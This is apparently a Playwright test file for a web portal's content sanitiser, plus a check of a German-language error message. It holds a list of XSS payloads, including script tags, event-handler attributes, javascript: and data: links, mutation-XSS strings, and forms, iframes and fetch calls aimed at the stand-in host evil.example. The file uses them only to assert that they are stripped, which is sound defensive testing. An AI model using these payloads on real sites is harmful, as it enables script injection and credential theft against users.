import { expect, type Page, type Route } from '@playwright/test';
import { test } from '../portal/browser-test';
import { useSharedPortal } from '../portal/shared-portal';
import { watchForAttacks } from './watch-for-attacks';

const portal = useSharedPortal();

const UNAVAILABLE = {
  'en-US': 'The service is currently unavailable. Please try again later.',
  'de-DE': 'Der Dienst ist zurzeit nicht verfügbar. Bitte versuchen Sie es später erneut.',
} as const;

const CONTENT = /\/app\/(?:cs5|npx\/public\/contentsvcs)\//;
const ADDRESS = '/app/default/systemRequirements';

function answerWith(page: Page, response: (route: Route) => Promise<void>): Promise<unknown> {
  return page.route(CONTENT, response);
}

function json(body: unknown) {
  return (route: Route) => route.fulfill({ contentType: 'application/json', body: JSON.stringify(body) });
}

const RUN = 'window.ran=1;alert(1);fetch(`https://evil.example`)';

/** Hostile content, placed between paragraphs that must be shown. */
const HOSTILE: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="https://evil.example/pixel.gif">`,
  `<p onclick="${RUN}" onmouseover="${RUN}" tabindex="0" autofocus onfocus="${RUN}">handler</p>`,
  `<form action="https://evil.example"><label>SHOWN password</label><input name="p"><button>SHOWN</button></form>`,
  `<button formaction="javascript:${RUN}">SHOWN</button><textarea>SHOWN</textarea><select><option>SHOWN</option></select>`,
  `<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>${RUN}</script>">SHOWN</iframe>`,
  `<style>body{background:url(https://evil.example)} main{display:none}</style>`,
  `<link rel="stylesheet" href="https://evil.example/x.css"><meta http-equiv="refresh" content="0;url=https://evil.example">`,
  `<base href="https://evil.example/">`,
  `<svg onload="${RUN}"><script>${RUN}</script><text>SHOWN</text><a xlink:href="javascript:${RUN}"><rect width="9" height="9"/></a></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<a href="javascript:${RUN}">link</a><a href=" java&#10;script:${RUN}">link</a><a href="data:text/html,<script>${RUN}</script>">link</a>`,
  `<a href="//evil.example">link</a><a href="/\\evil.example">link</a><a href="http://evil.example">link</a>`,
  `<object data="https://evil.example">SHOWN</object><embed src="https://evil.example"><video src=x onerror="${RUN}">SHOWN</video>`,
  `<details open ontoggle="${RUN}">open</details><marquee onstart="${RUN}">moving</marquee>`,
  `<template><script>${RUN}</script>SHOWN</template><noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<div id="portal-boot" style="position:fixed;inset:0" class="portal-page" data-part="x">cover</div>`,
  `<dialog open>SHOWN</dialog><meter value="1">SHOWN</meter><progress>SHOWN</progress>`,
];

/** Returns whether a content case gets a separate page: always in long runs, else if it leaves the parser in an unusual state. */
function isAlone(hostile: string): boolean {
  return process.env['PORTAL_TEST_LONG'] !== undefined || /math|noscript/.test(hostile);
}
const HOSTILE_PAGES: readonly string[] = [
  HOSTILE.filter((each) => !isAlone(each)).join(''),
  ...HOSTILE.filter(isAlone),
].filter((each) => each !== '');

test('hostile content runs and requests nothing, has no controls; text and safe links remain @SEC-R9 @D-10 @INF-2', async ({
  page,
}) => {
  const attacks = await watchForAttacks(page, portal.origin);
  let html = '';
  await answerWith(page, (route) => json({ page: { text_s: html } })(route));
  for (const hostile of HOSTILE_PAGES) {
    html = `<p>Before</p>${hostile}<p>After <a href="/app/default/termsOfUse" target="_top" rel="opener">terms</a></p>`;
    await page.goto(portal.origin + ADDRESS);
    const main = page.getByRole('main');
    await expect(main, hostile).toContainText('Before');
    const left = await main.evaluate((element) => ({
      elements: element.querySelectorAll(
        'script, form, input, button, select, textarea, iframe, object, embed, style, link, meta, base, img, video, math, dialog, template',
      ).length,
      // The page's own icons contain only shapes.
      drawings: element.querySelectorAll('svg script, svg a, svg text, svg[onload]').length,
      handlers: [...element.querySelectorAll('*')].filter((each) =>
        each.getAttributeNames().some((name) => name.startsWith('on') || name === 'style'),
      ).length,
      addresses: [...element.querySelectorAll('a')].map((link) => link.getAttribute('href')),
      rels: [...element.querySelectorAll('a')].every((link) => link.rel === 'noopener' && link.target === ''),
      ids: document.querySelectorAll('#portal-boot').length,
    }));
    expect({ ...left, addresses: left.addresses.filter((each) => each !== null) }, hostile).toEqual({
      elements: 0,
      drawings: 0,
      handlers: 0,
      addresses: /math|noscript/.test(hostile) ? expect.anything() : ['/app/default/termsOfUse'],
      rels: true,
      ids: 1,
    });
    await expect(main, hostile).not.toContainText('SHOWN');
    await expect(page, hostile).toHaveURL(portal.origin + ADDRESS);
    expect(await attacks(), hostile).toEqual([]);
  }
});

test('the error message is also in German on every page with content; terms need no service @INF-2 @INF-8', async ({
  page,
}) => {
  await page.context().addCookies([{ name: 'displayLanguage', value: 'de_DE', url: portal.origin }]);
  await answerWith(page, (route) => route.abort());
  for (const name of ['systemRequirements', 'cookiePolicy', 'termsOfUse']) {
    await page.goto(`${portal.origin}/app/default/${name}`);
    await expect(page.getByRole('main').getByRole('status')).toHaveText(UNAVAILABLE['de-DE']);
  }
  await expect(page.getByRole('heading', { name: 'Ihr Vertrag' })).toBeVisible();
});
